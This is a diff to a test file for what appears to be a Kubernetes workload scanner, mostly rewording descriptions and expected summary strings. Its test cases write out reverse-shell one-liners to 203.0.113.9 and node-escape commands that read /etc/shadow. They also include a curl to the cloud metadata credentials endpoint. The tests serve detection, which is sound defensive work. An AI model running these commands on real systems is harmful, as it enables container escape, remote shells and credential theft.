@@ -176,24 +176,24 @@ describe('signs', () => {
       ['echo aGk= | base64 -d | bash', 'runs a script that it fetches or decodes'],
       ['chmod +x /tmp/.x; /tmp/.x', 'makes a file in a temporary folder a program'],
       ['nsenter -t 1 -m -u sh', 'enters namespaces of the node (nsenter)', 'node-entry'],
-      ['chroot /host bash', 'goes into the file system of the node (chroot)', 'node-entry'],
-      ['cat /proc/1/root/etc/shadow', 'goes into the file system of the node (/proc/1/root)', 'node-entry'],
+      ['chroot /host bash', 'enters the file system of the node (chroot)', 'node-entry'],
+      ['cat /proc/1/root/etc/shadow', 'enters the file system of the node (/proc/1/root)', 'node-entry'],
       ['ctr -a /run/containerd/containerd.sock run x', "speaks to the node's container runtime", 'node-entry'],
       ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'opens a reverse shell', 'reverse-shell'],
       ['nc 203.0.113.9 443 -e /bin/sh', 'opens a reverse shell', 'reverse-shell'],
       ['ncat --exec /bin/sh 203.0.113.9 443', 'opens a reverse shell', 'reverse-shell'],
-      ['socat TCP:203.0.113.9:443 EXEC:/bin/sh', 'joins a program to the network (socat)', 'reverse-shell'],
+      ['socat TCP:203.0.113.9:443 EXEC:/bin/sh', 'connects a program to the network (socat)', 'reverse-shell'],
       [
         'mkfifo /tmp/f; sh -i < /tmp/f | openssl s_client -connect x:443 > /tmp/f',
-        'joins a shell to the network by a pipe',
+        'connects a shell to the network by a pipe',
         'reverse-shell',
       ],
       [
         'mkfifo /tmp/f; nc 203.0.113.9 443 < /tmp/f | sh > /tmp/f',
-        'joins a shell to the network by a pipe',
+        'connects a shell to the network by a pipe',
         'reverse-shell',
       ],
-      [`python3 -c 'import pty;pty.spawn("sh")'`, 'joins a shell to the network in a script', 'reverse-shell'],
+      [`python3 -c 'import pty;pty.spawn("sh")'`, 'connects a shell to the network in a script', 'reverse-shell'],
       ['curl http://169.254.169.254/latest/meta-data/', "names EC2's instance metadata service", 'metadata-access'],
       [
         'curl -s http://$IMDS/latest/meta-data/iam/security-credentials/',
@@ -272,7 +272,7 @@ describe('signs', () => {
       'of a command that fetches and keeps',
       withContainer({ args: ['curl -o /tmp/x https://x && cat x | sort', 'show | sh'] }),
     ],
-    ['of a port that is no port', withContainer({ ports: [{ hostPort: 0 }, { containerPort: 80 }] })],
+    ['of a port that is not a port', withContainer({ ports: [{ hostPort: 0 }, { containerPort: 80 }] })],
   ])('are not those %s', async (_, podSpec) => {
     expect(await signsOf(podSpec)).toEqual([]);
   });
@@ -414,15 +414,15 @@ describe('workloads', () => {
     ]);
     expect(answer.status).toBe('found');
     expect(textOf(answer)).toBe(
-      '3 workload(s) with 0 pod(s), of which 0 run; of concern: Deployment both (privileged, host-pid); Deployment miner (miner-image).',
+      '3 workloads, 0 pods (0 running); suspicious: Deployment both (privileged, host-pid); Deployment miner (miner-image).',
     );
   });
 
   test.each([
     ['nothing', {}, 'clear', 'Nothing runs in the namespace.'],
-    ['an ordinary one', { Deployment: [object('d', {}, template(spec()))] }, 'clear', 'none with a sign of danger'],
-    ['a DaemonSet', { DaemonSet: [object('d', {}, template(spec()))] }, 'found', 'among them 1 DaemonSet(s); none'],
-    ['a CronJob', { CronJob: [object('d', {}, { spec: { jobTemplate: template(spec()) } })] }, 'found', '1 CronJob(s)'],
+    ['an ordinary one', { Deployment: [object('d', {}, template(spec()))] }, 'clear', 'none suspicious'],
+    ['a DaemonSet', { DaemonSet: [object('d', {}, template(spec()))] }, 'found', 'including 1 DaemonSet; none'],
+    ['a CronJob', { CronJob: [object('d', {}, { spec: { jobTemplate: template(spec()) } })] }, 'found', '1 CronJob'],
   ])('%s', async (_, objects, status, text) => {
     const answer = await ask(workloads, cluster(objects));
     expect(answer.status).toBe(status);
